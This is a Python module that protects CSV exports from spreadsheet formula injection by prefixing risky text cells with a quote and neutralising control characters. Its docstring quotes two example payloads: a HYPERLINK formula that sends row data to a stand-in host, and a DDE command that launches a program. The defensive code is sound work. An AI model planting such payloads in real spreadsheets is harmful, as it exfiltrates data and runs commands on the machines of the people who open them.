"""CSV cells that a spreadsheet opens as text, never as a formula.

Anchors, titles and URLs are anyone's text. A CSV export is mostly opened in a spreadsheet, and
Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a
tab or carriage return before one) as a formula: an anchor ``=HYPERLINK("https://evil.test/?"&A2,
"Open")`` would send the row next to it away, ``=cmd|' /C calc'!A0`` would ask to run a program
("CSV injection", OWASP). Whitespace, a no-break or zero-width space or a byte order mark before
the sign, or its full-width form (``＝``), counts too. Every CSV linkback writes (the CLI's ``--format csv``, ``linkback export``,
the API's export and the dashboard's downloads) puts a ``'`` before such a text cell, as OWASP
advises; a spreadsheet shows the text as it was, with no formula run. A number written as text
(``-3``, ``+12.5%``) is no formula and stays as it is, as does every non-text value. A control
character (ESC, NUL...) is shown as U+FFFD (:data:`CONTROLS`), and a cell holding a carriage
return is quoted (:class:`Writer`). JSON, JSONL and Parquet carry every value unchanged.
"""

from __future__ import annotations

import csv
import io
import re
from typing import Any, TextIO

#: What a spreadsheet takes for the start of a formula (OWASP's list), with their full-width
#: forms, which some spreadsheets' input methods turn into the ASCII ones.
FORMULA_STARTS = "=+@\t\r\uff1d\uff0b\uff0d\uff20-"
#: What may come before it and still leave the cell a formula in some spreadsheet: whitespace,
#: no-break and zero-width spaces, a byte order mark.
_LEADING = "\t\n\v\f\r \u00a0\u1680\u2000-\u200b\u2028\u2029\u202f\u205f\u3000\ufeff"
#: A number written as text (ASCII digits): nothing a spreadsheet would run.
_NUMBER = r"[+-]?(?:[0-9]+(?:[.,][0-9]+)*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?%?"
#: :func:`cell`'s tests as regular expressions, the characters written as themselves, which
#: Python's engine and Arrow's (RE2) read alike (``-`` last in its class: no range).
NEEDS_QUOTE = f"^[{_LEADING}]*[{FORMULA_STARTS}]"
NUMBER = f"^{_NUMBER}$"
#: Control characters but tab, line feed and carriage return (C0, DEL, C1): no spreadsheet cell
#: holds them, and printed to a terminal (a CSV report is, by default) ESC starts an escape
#: sequence. A CSV cell shows each as U+FFFD; JSON escapes them and Parquet keeps them.
CONTROLS = r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]"
REPLACEMENT = "\ufffd"
_NEEDS_QUOTE_RE = re.compile(NEEDS_QUOTE)
# fullmatch, not NUMBER: Python's ``$`` also matches before a final line feed (``-0\n`` is no
# number to RE2, nor to a spreadsheet, which shows a text of two lines).
_NUMBER_RE = re.compile(_NUMBER, re.ASCII)
_CONTROLS_RE = re.compile(CONTROLS)


def cell(value: Any) -> Any:
    """``value`` as a CSV cell: its control characters (:data:`CONTROLS`) shown as U+FFFD, and
    a ``'`` before a text a spreadsheet would run as a formula; anything else as it is."""
    if not isinstance(value, str):
        return value
    if _CONTROLS_RE.search(value):
        value = _CONTROLS_RE.sub(REPLACEMENT, value)
    if _NEEDS_QUOTE_RE.match(value) and not _NUMBER_RE.fullmatch(value):
        return "'" + value
    return value


def row(values: Any) -> list[Any]:
    """:func:`cell` of each value of a row."""
    return [cell(v) for v in values]


class Writer:
    """``csv.writer`` for linkback's CSV: every row through :func:`row`, lines ending in ``\n``,
    and a cell with a carriage return quoted like one with a line feed. (Python's writer quotes
    only the characters of its line terminator: with ``\n`` a bare CR went out unquoted, and a
    spreadsheet, which breaks lines at a CR, read what follows it as a new row, a formula too.)"""

    def __init__(self, out: TextIO) -> None:
        self._out = out
        self._line = io.StringIO()
        self._csv = csv.writer(self._line, lineterminator="\r\n")

    def writerow(self, values: Any) -> None:
        self._line.seek(0)
        self._line.truncate()
        self._csv.writerow(row(values))
        self._out.write(self._line.getvalue()[:-2] + "\n")
